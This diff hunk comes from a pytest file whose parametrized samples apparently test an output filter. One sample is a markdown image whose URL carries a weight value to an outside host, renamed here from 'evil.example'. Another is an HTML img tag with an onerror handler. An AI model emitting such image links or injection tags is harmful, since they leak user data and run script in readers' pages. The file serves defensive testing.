@@ -191,7 +191,7 @@ def test_numbers_of_a_minor_end_the_turn():
 @pytest.mark.parametrize(
     "text",
     [
-        "Look: ![x](https://evil.example/?w=58kg) here.",
+        "Look: ![x](https://elsewhere.example/?w=58kg) here.",
         "See https://example.com/plan for more.",
         "Read [this](https://example.com).",
         "<img src=x onerror=y> Hi.",
